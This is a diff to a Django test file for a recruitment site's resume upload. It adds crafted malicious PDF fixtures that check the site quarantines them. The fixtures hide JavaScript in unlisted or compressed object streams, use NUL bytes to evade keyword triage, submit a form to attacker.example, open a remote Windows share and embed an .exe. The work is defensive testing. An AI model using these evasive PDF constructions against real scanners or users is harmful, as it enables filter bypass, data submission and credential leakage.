@@ -1,10 +1,21 @@
 """The candidate's status page and self-service API: stage, history, withdraw, erase."""
 
+import re
+import zlib
+
 import pytest
 
 from recruitment.models import Application, Candidate, ResumeVersion, Review
 
-from .conftest import application_data, document_xml, docx_bytes, pdf_bytes, stored_files, upload
+from .conftest import (
+    application_data,
+    document_xml,
+    docx_bytes,
+    pdf_bytes,
+    pdf_stream,
+    stored_files,
+    upload,
+)
 
 pytestmark = pytest.mark.django_db
 
@@ -217,22 +228,168 @@ def test_a_quarantined_resume_replaced_from_the_status_page_is_deleted_not_kept(
     ]
 
 
-@pytest.mark.parametrize(
-    "data",
-    [
+def _with_an_unlisted_object_stream(data):
+    """`data` with an object stream holding a script that no cross-reference table lists."""
+    packed = zlib.compress(b"10 0 << /S /JavaScript /JS (app.alert(1)) >>")
+    hidden = (
+        b"9 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n"
+        % len(packed)
+        + packed
+        + b"\nendstream\nendobj\n"
+    )
+    at = data.rindex(b"\nxref\n") + 1
+    startxref = int(re.search(rb"startxref\n(\d+)", data).group(1))
+    return (data[:at] + hidden + data[at:]).replace(
+        b"startxref\n%d" % startxref, b"startxref\n%d" % (startxref + len(hidden))
+    )
+
+
+LINK = b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 712] /A %s >>"
+SCRIPT = b"<< /S /JavaScript /JS (app.alert(document.URL)) >>"
+# None of these has a keyword the request's triage looks for in the file's bytes.
+ACTIVE_PDFS = [
+    pytest.param(
         pdf_bytes(extra_catalog=b"/AA << /WC 6 0 R >> ", extra_objects=[b"<< /S /URI >>"]),
-        b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\n%%EOF\n",
-    ],
-    ids=["additional-actions", "no-document-inside"],
-)
+        "automatic actions or scripts",
+        id="additional-actions",
+    ),
+    pytest.param(
+        b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\n%%EOF\n", "could not be read", id="no-document-inside"
+    ),
+    pytest.param(
+        pdf_bytes(
+            extra_page=b"/AA << /O 6 0 R >> /Annots [7 0 R] ",
+            extra_objects=[SCRIPT, LINK % SCRIPT],
+            object_stream=True,
+        ),
+        "automatic actions or scripts",
+        id="page-open-and-link-scripts-in-an-object-stream",
+    ),
+    pytest.param(
+        pdf_bytes(
+            extra_page=b"/Annots [6 0 R] ",
+            extra_objects=[LINK % b"<< /S /JavaScript\x00/JS\x00(app.alert(1)) >>"],
+            object_stream=True,
+        ),
+        "automatic actions or scripts",
+        id="nul-after-javascript-in-an-object-stream",
+    ),
+    pytest.param(
+        pdf_bytes(
+            extra_catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >> ",
+            extra_objects=[b"<< /S /SubmitForm /F (https://attacker.example/) >>"],
+            object_stream=True,
+        ),
+        "automatic actions or scripts",
+        id="open-action-chaining-a-form-submission-in-an-object-stream",
+    ),
+    pytest.param(
+        _with_an_unlisted_object_stream(pdf_bytes()),
+        "automatic actions or scripts",
+        id="script-in-an-unlisted-object-stream",
+    ),
+    pytest.param(
+        pdf_bytes(
+            # PDF escapes a backslash as two: the file is \\attacker\share\cv.pdf.
+            extra_page=b"/AA << /O << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\cv.pdf) "
+            b"/D [0 /Fit] >> >> "
+        ),
+        "automatic actions or scripts",
+        id="page-open-goto-a-windows-share",
+    ),
+    pytest.param(
+        pdf_bytes(
+            extra_page=b"/Annots [6 0 R] ",
+            extra_objects=[LINK % b"<< /S /GoToE /T << /R /C /N (cv) >> >>"],
+        ),
+        "automatic actions or scripts",
+        id="link-into-an-attachment",
+    ),
+    pytest.param(
+        pdf_bytes(
+            extra_catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >> ",
+            extra_objects=[
+                pdf_stream(
+                    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script '
+                    b'contentType="application/x-javascript">app.alert(1)</script>'
+                    b"</template></xdp:xdp>"
+                )
+            ],
+        ),
+        "automatic actions or scripts",
+        id="xfa-form-with-a-compressed-script",
+    ),
+    pytest.param(
+        pdf_bytes(
+            extra_catalog=b"/Names << /EmbeddedFiles << /Names [(cv.exe) 6 0 R] >> >> ",
+            extra_objects=[b"<< /Type /Filespec /F (cv.exe) >>"],
+            object_stream=True,
+        ),
+        "embedded files",
+        id="attachment-in-an-object-stream",
+    ),
+    pytest.param(
+        pdf_bytes(
+            extra_page=b"/Annots [6 0 R] ",
+            extra_objects=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"],
+        ),
+        "automatic actions or scripts",
+        id="rich-media",
+    ),
+]
+
+
+@pytest.mark.parametrize("data, reason", ACTIVE_PDFS)
 def test_a_pdf_that_fails_the_deeper_check_is_quarantined(
-    client, campaign, data, django_capture_on_commit_callbacks
+    client, campaign, data, reason, django_capture_on_commit_callbacks
 ):
     with django_capture_on_commit_callbacks(execute=True):
         response = client.post(API, application_data(resume=upload("cv.pdf", data)))
 
     assert response.status_code == 201
-    assert Application.objects.get().quarantined
+    application = Application.objects.get()
+    assert application.quarantined
+    assert reason in application.quarantine_reason
+
+
+def test_a_script_hidden_in_an_object_stream_never_reaches_staff(
+    client, campaign, recruiter, django_capture_on_commit_callbacks
+):
+    data = pdf_bytes(extra_page=b"/AA << /O 6 0 R >> ", extra_objects=[SCRIPT], object_stream=True)
+    with django_capture_on_commit_callbacks(execute=True):
+        response = client.post(API, application_data(resume=upload("cv.pdf", data)))
+    application = Application.objects.get(reference=response.json()["reference"])
+    client.force_login(recruiter)
+
+    page = client.get(f"/admin/recruitment/application/{application.pk}/change/")
+    download = client.get(f"/staff/applications/{application.pk}/resume/?inline=1")
+
+    assert application.quarantined
+    assert "automatic actions or scripts" in application.quarantine_reason
+    assert page.status_code == 200 and "<iframe" not in page.content.decode()
+    assert download.status_code == 404
+
+
+@pytest.mark.parametrize(
+    "part, xml",
+    [
+        ("word/styles.xml", '<?xml version="1.0"?><styles><style></styles>'),
+        ("word/settings.xml", '<?xml version="1.0"?><settings/><!DOCTYPE settings>'),
+    ],
+    ids=["styles-not-well-formed", "dtd-after-the-root"],
+)
+def test_a_word_file_with_any_part_that_does_not_parse_is_quarantined(
+    client, campaign, part, xml, django_capture_on_commit_callbacks
+):
+    data = docx_bytes(extra={part: xml})
+
+    with django_capture_on_commit_callbacks(execute=True):
+        response = client.post(API, application_data(resume=upload("cv.docx", data)))
+
+    assert response.status_code == 201
+    application = Application.objects.get()
+    assert application.quarantined
+    assert application.quarantine_reason == "The Word document could not be read."
 
 
 def test_the_status_page_uses_a_bounded_number_of_queries(
